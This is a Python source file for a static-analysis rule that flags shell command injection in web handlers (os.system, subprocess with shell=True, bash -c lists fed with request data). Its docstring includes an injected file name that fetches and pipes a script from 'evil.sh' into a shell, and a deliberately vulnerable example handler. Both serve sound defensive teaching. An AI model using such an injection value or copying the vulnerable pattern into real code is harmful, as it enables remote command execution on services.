"""Security: shell commands built from input (SEC008)."""

from __future__ import annotations

import ast

from prodready.plugin import Category, Confidence, ModuleEnd, PythonContext, Severity, python_rule
from prodready.plugin.analysis import argument, constant_str, is_true, keyword_value
from prodready.plugin.taint import appended_parts, report_deferred
from prodready.rules.security._input_origin import OriginReport
from prodready.rules.security._shared import _pieces, _safe_value

# -- SEC008 ------------------------------------------------------------------------------------

_SHELL_ALWAYS = (
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "commands.getstatusoutput",
    "asyncio.create_subprocess_shell",
    "asyncio.subprocess.create_subprocess_shell",
)
_SHELL_OPTIONAL = (
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
)
_EXEC_VARARGS = ("asyncio.create_subprocess_exec", "asyncio.subprocess.create_subprocess_exec")
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash"})


def _shell_c_command(
    command: ast.expr | None, ctx: PythonContext
) -> tuple[ast.expr | None, str | None]:
    """An argument list that starts a shell with ``-c`` (``["bash", "-c", line]``, also
    ``-lc``/``-ec``, bound to a name first): the shell parses the item after the flag as a
    command line, as ``shell=True`` would. Returns that item and ``"bash -c"``."""
    if isinstance(command, ast.Name):
        command = ctx.value_of(command.id)
    if not isinstance(command, ast.List | ast.Tuple) or len(command.elts) < 3:
        return None, None
    program, flag = (constant_str(item) for item in command.elts[:2])
    if program is None or program.rsplit("/", 1)[-1] not in _SHELLS:
        return None, None
    if flag is None or flag.startswith("--") or not flag.startswith("-") or "c" not in flag:
        return None, None
    return command.elts[2], f"{program} {flag}"


_SHELL_SANITIZERS = frozenset(
    {"shlex.quote", "shlex.join", "pipes.quote", "quote", "escapeshellarg"}
)


@python_rule(
    code="SEC008",
    name="shell-command-injection",
    category=Category.SECURITY,
    severity=Severity.CRITICAL,
    summary="Shell command built from request data (os.system, subprocess with shell=True)",
    calls=(*_SHELL_ALWAYS, *_SHELL_OPTIONAL, *_EXEC_VARARGS),
    nodes=(ModuleEnd,),
    cwe=78,
    fix='Pass an argument list, no shell: subprocess.run(["convert", path, out], check=True).',
)
def shell_command_injection(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags `os.system`, `os.popen`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`
    and `subprocess.run/call/check_output/Popen(..., shell=True)` -- or an argument list that
    starts a shell with `-c` (`["bash", "-c", line]`, also `asyncio.create_subprocess_exec`),
    whose item after the flag the shell parses the same way -- when the command line
    carries data the client controls -- request data or handler parameters, followed through
    local variables, f-strings, `%`, `.format()`, `+` and helper functions of the module
    (including a helper that runs the command with its parameter when a handler passes
    request data to it). Values passed through `shlex.quote`, numbers and allow-listed values
    are fine; constant commands, commands built from configuration or environment variables,
    and argument lists without `shell=True` are not reported.
    Audit tier: a command no request data is seen reaching but that is not provably constant
    -- a helper's parameter no caller in the project feeds with request data, `input()`,
    `sys.argv`, command-line options, a call the scan cannot see into -- is reported at low
    severity with low confidence (`--min-confidence medium` keeps only proven flows), naming
    the value to check.

    ## Why it breaks production
    The shell interprets `;`, `|`, `$(...)` and backticks inside the interpolated value: a file
    name such as `x; curl evil.sh | sh` runs a second command with the service's permissions
    and credentials. Even harmless input breaks it -- a space or a quote in a file name makes
    the command fail or act on the wrong file.

    ## Example
    ```python
    @app.post("/thumbnails/{filename}")
    def make_thumbnail(filename: str):
        os.system(f"convert uploads/{filename} -resize 200x200 thumbs/{filename}")
    ```

    ## Use instead
    ```python
    @app.post("/thumbnails/{filename}")
    def make_thumbnail(filename: str):
        subprocess.run(
            ["convert", f"uploads/{filename}", "-resize", "200x200", f"thumbs/{filename}"],
            check=True,
            timeout=30,
        )
    ```
    """
    if isinstance(node, ast.Module):
        report_deferred(ctx)
        return
    if ctx.facts.is_test or not isinstance(node, ast.Call):
        return
    name = ctx.call_name or ""
    shell_c: str | None = None  # ``["bash", "-c", command]``: a shell runs the item after -c
    if name in _SHELL_OPTIONAL:
        shell = keyword_value(node, "shell")
        if isinstance(shell, ast.Name):
            shell = ctx.value_of(shell.id) or shell
        command = argument(node, 0, "args")
        if not is_true(shell):
            command, shell_c = _shell_c_command(command, ctx)
            if command is None:
                return
    elif name in _EXEC_VARARGS:
        command, shell_c = _shell_c_command(ast.List(elts=list(node.args)), ctx)
        if command is None:
            return
    else:
        command = argument(node, 0, "cmd") or argument(node, None, "command")
    if command is None or isinstance(command, ast.Starred):
        return
    if isinstance(command, ast.Name):
        bound = ctx.value_of(command.id)
        if isinstance(bound, ast.List | ast.Tuple):
            command = bound
    if isinstance(command, ast.List | ast.Tuple):
        if not command.elts:
            return
        command = command.elts[0]  # with a shell, only the first item is the command line
    pieces = _pieces(command, ctx, appended_parts(ctx, node))
    values = [p for p in pieces if not isinstance(p, str) and not _safe_value(p, ctx, frozenset())]
    callee = name.rsplit(".", 1)[-1] if name in _SHELL_OPTIONAL else name
    shell_note = " with shell=True" if name in _SHELL_OPTIONAL else ""
    if shell_c is not None:
        shell_note = f" with {shell_c}"

    def report(source: str) -> None:
        ctx.report(
            node,
            f"{callee}(){shell_note} runs a shell command built from {source}: shell "
            "metacharacters in it (; | $( ) `) run arbitrary commands with the service's "
            "permissions. Pass an argument list without shell=True (or shlex.quote() each "
            "value)",
        )

    def audit(part: str) -> None:
        ctx.report(
            node,
            f"{callee}(){shell_note} runs a shell command built from {part}, which is not "
            "provably constant; no request data was seen reaching it. Check who chooses that "
            "value: if anyone but the operator can, shell metacharacters in it (; | $( ) `) run "
            "arbitrary commands. Pass an argument list without shell=True (or shlex.quote() it)",
            severity=Severity.LOW,
            confidence=Confidence.LOW,
        )

    # At module level the pieces come from a name's last assignment in the module, which may
    # follow the call: the audit follows the binding in force at the call instead.
    audited = [command] if ctx.function is None else values
    origin = OriginReport(node, ctx, request=report, audit=audit, sanitizers=_SHELL_SANITIZERS)
    origin.run(values, audited)
